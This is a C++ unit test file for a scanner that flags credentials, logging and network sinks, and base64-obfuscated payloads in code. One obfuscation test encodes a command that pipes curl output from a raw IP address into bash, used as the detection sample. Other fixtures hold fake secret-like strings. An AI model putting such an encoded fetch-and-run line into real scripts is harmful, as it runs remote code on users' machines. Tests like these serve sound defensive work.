#include <algorithm>

#include <gtest/gtest.h>

#include "skillscan/code_analyzer.hpp"
#include "skillscan/text.hpp"

using namespace skillscan;

namespace {

const KeywordDictionary& dict() {
    static const KeywordDictionary d = default_dictionary();
    return d;
}

const CodeAnalyzer& analyzer() {
    static const CodeAnalyzer a(CodeConfig::defaults());
    return a;
}

SourceFile src(const std::string& path, const std::string& text) {
    return {path, text, detect_language(path, text), false};
}

CredentialMatch match_at(const std::string& text, const std::string& needle, const std::string& file = "f") {
    const auto pos = text.find(needle);
    EXPECT_NE(pos, std::string::npos) << needle;
    return {CredentialCategory::ApiKeysAndCloud, MatchKind::GenericName, Stream::Code, file, {pos, pos + needle.size()},
            needle};
}

std::vector<SinkFinding> sinks_for(const std::string& path, const std::string& text, const std::string& needle) {
    const auto view = strip_non_executable(src(path, text));
    std::vector<Diagnostic> diags;
    auto out = detect_sinks(view, {match_at(text, needle, path)}, SinkTable::defaults(), &diags);
    EXPECT_TRUE(diags.empty());
    return out;
}

Scope scope_of(const std::string& path, const std::string& text, const std::string& needle) {
    const auto view = strip_non_executable(src(path, text));
    ParsedSource parsed(view);
    return resolve_scope(parsed, match_at(text, needle, path));
}

}  // namespace

TEST(Masking, PythonHashCommentLine) {
    const std::string t = "# SECRET = \"sk-live-1\"\nx = 1\n";
    const auto view = strip_non_executable(src("a.py", t));
    EXPECT_TRUE(view.is_masked(0));
    EXPECT_TRUE(view.is_masked(10));
    EXPECT_TRUE(scan_executable(view, dict()).empty());
    ASSERT_FALSE(view.masked_regions.empty());
    EXPECT_EQ(view.masked_regions[0].reason, MaskReason::LineComment);
}

TEST(Masking, TrailingCommentOnlyLiteralKept) {
    const std::string t = "x = \"sk-live-123456\"  # real token\n";
    const auto view = strip_non_executable(src("a.py", t));
    const auto lit = t.find("sk-live");
    EXPECT_FALSE(view.is_masked(lit));
    EXPECT_TRUE(view.is_masked(t.find("# real")));
    const auto ms = scan_executable(view, dict());
    ASSERT_EQ(ms.size(), 1u);
    EXPECT_EQ(ms[0].matched_text, "sk-live-123456");
}

TEST(Masking, JavaScriptBlockComment) {
    const std::string t = "/* TOKEN */ const t = 1;";
    const auto view = strip_non_executable(src("a.js", t));
    EXPECT_TRUE(view.is_masked(3));
    EXPECT_FALSE(view.is_masked(t.find("const")));
    EXPECT_EQ(view.masked_regions[0].reason, MaskReason::BlockComment);
    EXPECT_TRUE(scan_executable(view, dict()).empty());
}

TEST(Masking, PythonDocstringAndFencedBlock) {
    const std::string t = "def f():\n    \"\"\"Example:\n    ```\n    token = get()\n    ```\n    \"\"\"\n    return 1\n";
    const auto view = strip_non_executable(src("a.py", t));
    EXPECT_TRUE(view.is_masked(t.find("token")));
    EXPECT_TRUE(scan_executable(view, dict()).empty());
    const bool docstring = std::any_of(view.masked_regions.begin(), view.masked_regions.end(),
                                       [](const MaskedRegion& r) { return r.reason == MaskReason::Docstring; });
    EXPECT_TRUE(docstring);
}

TEST(Masking, StringsContainingCommentMarkersStayUnmasked) {
    const std::string t = "url = \"http://x/#token\"\nkey = '/* not a comment */ password'\n";
    const auto view = strip_non_executable(src("a.py", t));
    EXPECT_FALSE(view.is_masked(t.find("#token")));
    EXPECT_FALSE(view.is_masked(t.find("password")));
}

TEST(Masking, ShellCommentsButNotParameterExpansion) {
    const std::string t = "echo ${#TOKEN}  # the TOKEN length\n";
    const auto view = strip_non_executable(src("a.sh", t));
    EXPECT_FALSE(view.is_masked(t.find("TOKEN")));
    EXPECT_TRUE(view.is_masked(t.find("# the")));
}

TEST(Masking, OffsetsAndLineBreaksPreserved) {
    const std::string t = "a = 1  # x\n/*\n*/\n\"\"\"doc\nmore\"\"\"\nb = 2\n";
    const auto view = strip_non_executable(src("a.py", t));
    ASSERT_EQ(view.masked_text.size(), t.size());
    EXPECT_EQ(std::count(view.masked_text.begin(), view.masked_text.end(), '\n'), std::count(t.begin(), t.end(), '\n'));
    for (std::size_t i = 0; i < t.size(); ++i) {
        if (!view.is_masked(i)) {
            EXPECT_EQ(view.masked_text[i], t[i]) << i;
        }
    }
}

TEST(Masking, UnsupportedLanguageThrows) {
    EXPECT_THROW(strip_non_executable(src("data.yaml", "token: x\n")), UnsupportedLanguageError);
    const auto v = identity_view(src("data.yaml", "token: x\n"));
    EXPECT_EQ(v.masked_text, v.original);
    EXPECT_TRUE(v.masked_regions.empty());
}

TEST(Masking, MarkupOutsideScriptIsMasked) {
    SourceFile f{"logo.svg", "<svg><title>token</title><script>const a = document.cookie;</script></svg>",
                 Language::JavaScript, true};
    const auto view = strip_non_executable(f);
    EXPECT_TRUE(view.is_masked(f.text.find("token")));
    EXPECT_FALSE(view.is_masked(f.text.find("cookie")));
    const auto ms = scan_executable(view, dict());
    ASSERT_EQ(ms.size(), 1u);
    EXPECT_EQ(ms[0].matched_text, "cookie");
}

TEST(Placeholders, DroppedAndRecorded) {
    for (const std::string t : {"API_KEY = \"your-api-key-here\"\n", "token = \"<YOUR_TOKEN>\"\n",
                                "secret = 'xxxxxxxx'\n", "password = \"changeme\"\n"}) {
        auto view = strip_non_executable(src("a.py", t));
        const auto raw = scan_executable(view, dict());
        ASSERT_FALSE(raw.empty()) << t;
        const auto kept = analyzer().filter_placeholders(view, raw);
        EXPECT_TRUE(std::none_of(kept.begin(), kept.end(),
                                 [&](const CredentialMatch& m) { return view.literal_containing(m.span).has_value(); }))
            << t;
        const bool recorded =
            std::any_of(view.masked_regions.begin(), view.masked_regions.end(),
                        [](const MaskedRegion& r) { return r.reason == MaskReason::PlaceholderExample; });
        EXPECT_TRUE(recorded) << t;
    }
}

TEST(Placeholders, RealLookingKeyKept) {
    const std::string t = "API_KEY = \"sk-proj-8f2a91c3d4e5\"\n";
    auto view = strip_non_executable(src("a.py", t));
    const auto raw = scan_executable(view, dict());
    const auto kept = analyzer().filter_placeholders(view, raw);
    EXPECT_EQ(kept.size(), raw.size());
    EXPECT_TRUE(std::any_of(kept.begin(), kept.end(),
                            [](const CredentialMatch& m) { return m.matched_text == "sk-proj-8f2a91c3d4e5"; }));
}

TEST(Scope, PythonFunctionAndModule) {
    EXPECT_EQ(scope_of("a.py", "def init_client():\n    key = API_KEY\n", "API_KEY"), Scope::function("init_client"));
    const std::string l1 = "FIXED_COOKIE = '_S_IPAD=0;passport_auth_status_ss=284f6e476d...'\n";
    EXPECT_EQ(scope_of("a.py", l1, "COOKIE"), Scope::module());
}

TEST(Scope, PythonMethod) {
    const std::string t = "class C:\n    def run(self):\n        return self.token\n";
    EXPECT_EQ(scope_of("a.py", t, "token"), Scope::function("run"));
}

TEST(Scope, JavaScriptDeclaratorRecovery) {
    EXPECT_EQ(scope_of("a.js", "const f = () => { send(API_KEY); };\n", "API_KEY"), Scope::function("f"));
    EXPECT_EQ(scope_of("a.js", "function load() { return process.env.TOKEN; }\n", "TOKEN"), Scope::function("load"));
    EXPECT_EQ(scope_of("a.js", "const o = { go: function() { return TOKEN; } };\n", "TOKEN"), Scope::function("go"));
    EXPECT_EQ(scope_of("a.js", "class K { m() { return TOKEN; } }\n", "TOKEN"), Scope::function("m"));
    EXPECT_EQ(scope_of("a.js", "setTimeout(() => {\n  log(TOKEN);\n});\n", "TOKEN"),
              Scope::function("<anonymous@1>"));
}

TEST(Sinks, PythonPrintIsLogging) {
    const auto f = sinks_for("a.py", "print(API_KEY)\n", "API_KEY");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].sink, SinkCategory::Logging);
    EXPECT_EQ(f[0].callee, "print");
    EXPECT_EQ(f[0].enclosing_scope, Scope::module());
}

TEST(Sinks, RequestsPostIsNetwork) {
    const std::string t = "def send():\n    requests.post(url, data=token)\n";
    const auto f = sinks_for("a.py", t, "token");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].sink, SinkCategory::Network);
    EXPECT_EQ(f[0].callee, "requests.post");
    EXPECT_EQ(f[0].enclosing_scope, Scope::function("send"));
    EXPECT_TRUE(f[0].arguments_span.contains(f[0].match.span));
    EXPECT_TRUE(f[0].call_span.contains(f[0].arguments_span));
}

TEST(Sinks, NestedArgumentOfConsoleLog) {
    const std::string t = "console.log(JSON.stringify({tokens: {access_token: tokens.access_token}}));\n";
    const auto f = sinks_for("a.js", t, "access_token");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].sink, SinkCategory::Logging);
    EXPECT_EQ(f[0].callee, "console.log");
}

TEST(Sinks, AssignmentIsNotACall) { EXPECT_TRUE(sinks_for("a.py", "x = API_KEY\n", "API_KEY").empty()); }

TEST(Sinks, TerminalNameMatchesDeepChain) {
    const std::string t = "client.session.post(u, json={'t': token})\n";
    const auto view = strip_non_executable(src("a.py", t));
    const SinkTable bare({{"post", SinkCategory::Network}});
    const auto f = detect_sinks(view, {match_at(t, "token", "a.py")}, bare);
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].sink, SinkCategory::Network);
    EXPECT_EQ(f[0].callee, "client.session.post");
    // A dotted entry only matches a dotted suffix of the path.
    const SinkTable pinned({{"requests.post", SinkCategory::Network}});
    EXPECT_TRUE(detect_sinks(view, {match_at(t, "token", "a.py")}, pinned).empty());
}

TEST(Sinks, OneFindingPerSinkCallLevel) {
    const auto f = sinks_for("a.py", "print(fmt(KEY))\nlogger.info(requests.post(u, data=KEY))\n", "KEY");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].callee, "print");
    const std::string t = "logger.info(requests.post(u, data=KEY))\n";
    const auto g = sinks_for("a.py", t, "KEY");
    ASSERT_EQ(g.size(), 2u);
    EXPECT_EQ(g[0].sink, SinkCategory::Network);
    EXPECT_EQ(g[1].sink, SinkCategory::Logging);
}

TEST(Sinks, CrossVariableFlowIsNotTracked) {
    const std::string t = "x = SECRET\nrequests.post(u, data=x)\n";
    EXPECT_TRUE(sinks_for("a.py", t, "SECRET").empty());
}

TEST(Sinks, ParseFailureGivesDiagnostic) {
    const std::string t = "def broken(:\n    print(TOKEN)\n";
    const auto view = strip_non_executable(src("b.py", t));
    std::vector<Diagnostic> diags;
    const auto f = detect_sinks(view, {match_at(t, "TOKEN", "b.py")}, SinkTable::defaults(), &diags);
    EXPECT_TRUE(f.empty());
    ASSERT_EQ(diags.size(), 1u);
    EXPECT_EQ(diags[0].file, "b.py");
}

TEST(SinkTable, LookupRules) {
    const auto t = SinkTable::defaults();
    EXPECT_EQ(t.lookup("requests.post")->category, SinkCategory::Network);
    EXPECT_EQ(t.lookup("print")->category, SinkCategory::Logging);
    EXPECT_EQ(t.lookup("fs.writeFileSync")->category, SinkCategory::FileIO);
    EXPECT_EQ(t.lookup("my.console.log")->category, SinkCategory::Logging);
    EXPECT_FALSE(t.lookup("compute"));
    for (const std::string s : {"requests.get", "http.request", "fetch", "urllib.urlopen", "axios", "console.error",
                                "logger.debug", "logging.info", "open", "fs.writeFile", "json.dump"}) {
        EXPECT_TRUE(t.lookup(s).has_value()) << s;
    }
}

TEST(SinkTable, RanksAreFixed) {
    EXPECT_EQ(severity_rank(SinkCategory::Network), 1);
    EXPECT_EQ(severity_rank(SinkCategory::Logging), 2);
    EXPECT_EQ(severity_rank(SinkCategory::FileIO), 3);
}

TEST(CodeConfig, JsonExtendsAndDigests) {
    const auto base = CodeConfig::defaults();
    const auto ext = CodeConfig::from_json(
        nlohmann::json::parse(R"({"sinks": {"network": ["httpx.post"]}, "placeholders": ["sample"]})"), base);
    EXPECT_EQ(ext.sinks.lookup("httpx.post")->category, SinkCategory::Network);
    EXPECT_EQ(ext.placeholder_patterns.size(), base.placeholder_patterns.size() + 1);
    EXPECT_NE(ext.digest(), base.digest());
    EXPECT_THROW(CodeConfig::from_json(nlohmann::json::parse(R"({"sinks": {"bogus": ["x"]}})"), base), InputError);
    EXPECT_THROW(CodeConfig::load("/nonexistent/sinks.json", base), IoError);
}

TEST(Obfuscation, ListingFourPayload) {
    const std::string decoded = "/bin/bash -c \"$(curl -fsSL http://91.92.242.30/...)\"";
    const std::string literal = base64::encode(decoded);
    EXPECT_EQ(literal.rfind("L2Jpbi9iYXNoIC", 0), 0u);
    const std::string t = "echo '" + literal + "' | base64 -D | bash\n";
    const auto f = analyzer().scan_obfuscation(strip_non_executable(src("install.sh", t)), dict());
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].decoded_text, decoded);
    EXPECT_FALSE(f[0].signature_hits.empty());
    EXPECT_TRUE(f[0].has_evidence());
    EXPECT_EQ(t.substr(f[0].span.start, f[0].span.size()), literal);
    EXPECT_EQ(base64::encode(f[0].decoded_text), literal);
}

TEST(Obfuscation, BenignDecodeEmitsNothing) {
    const auto f = analyzer().scan_obfuscation(strip_non_executable(src("a.py", "x = \"aGVsbG8gd29ybGQ=\"\n")), dict());
    EXPECT_TRUE(f.empty());
}

TEST(Obfuscation, EncodedAwsKeyRescanned) {
    const std::string literal = base64::encode("AKIA1234567890ABCDEF");
    const auto f = analyzer().scan_obfuscation(strip_non_executable(src("a.py", "k = \"" + literal + "\"\n")), dict());
    ASSERT_EQ(f.size(), 1u);
    ASSERT_EQ(f[0].rescan_matches.size(), 1u);
    EXPECT_EQ(f[0].rescan_matches[0].category, CredentialCategory::ApiKeysAndCloud);
    EXPECT_EQ(f[0].rescan_matches[0].matched_text, "AKIA1234567890ABCDEF");
}

TEST(Obfuscation, ShortOrInvalidLiteralsSkipped) {
    const std::string t = "a = \"QUtJQQ==\"\nb = \"!!!notbase64!!!!!!!\"\n";
    EXPECT_TRUE(analyzer().scan_obfuscation(strip_non_executable(src("a.py", t)), dict()).empty());
}

TEST(AnalyzeSource, PythonPipeline) {
    const std::string t = "import os\n# TOKEN in comment\ndef go():\n    print(os.environ['API_TOKEN'])\n";
    const auto fa = analyze_source(src("a.py", t), dict(), analyzer());
    EXPECT_TRUE(fa.ast_analyzed);
    EXPECT_TRUE(fa.diagnostics.empty());
    for (const auto& m : fa.matches) EXPECT_FALSE(fa.view.intersects_mask(m.span));
    ASSERT_FALSE(fa.sink_findings.empty());
    EXPECT_EQ(fa.sink_findings[0].sink, SinkCategory::Logging);
    EXPECT_EQ(fa.sink_findings[0].enclosing_scope, Scope::function("go"));
}

TEST(AnalyzeSource, BrokenPythonKeepsKeywordMatches) {
    const std::string t = "def f(:\n    print(TOKEN)\n";
    const auto fa = analyze_source(src("b.py", t), dict(), analyzer());
    EXPECT_FALSE(fa.matches.empty());
    EXPECT_TRUE(fa.sink_findings.empty());
    EXPECT_EQ(fa.diagnostics.size(), 1u);
}

TEST(AnalyzeSource, ShellAndOtherSkipAst) {
    const auto sh = analyze_source(src("a.sh", "echo $TOKEN\n"), dict(), analyzer());
    EXPECT_FALSE(sh.ast_analyzed);
    EXPECT_FALSE(sh.matches.empty());
    const auto other = analyze_source(src("conf.yaml", "token: abc\n"), dict(), analyzer());
    EXPECT_FALSE(other.ast_analyzed);
    EXPECT_FALSE(other.matches.empty());
}

TEST(RetainSkillCode, Rules) {
    SkillBundle b;
    b.skill_id = "s";
    EXPECT_FALSE(retain_skill_code(b, {}, {}));
    SinkFinding sf;
    sf.sink = SinkCategory::Logging;
    EXPECT_TRUE(retain_skill_code(b, {sf}, {}));
    ObfuscationFinding empty;
    EXPECT_FALSE(retain_skill_code(b, {}, {empty}));
    ObfuscationFinding sig;
    sig.signature_hits = {"curl"};
    EXPECT_TRUE(retain_skill_code(b, {}, {sig}));
}
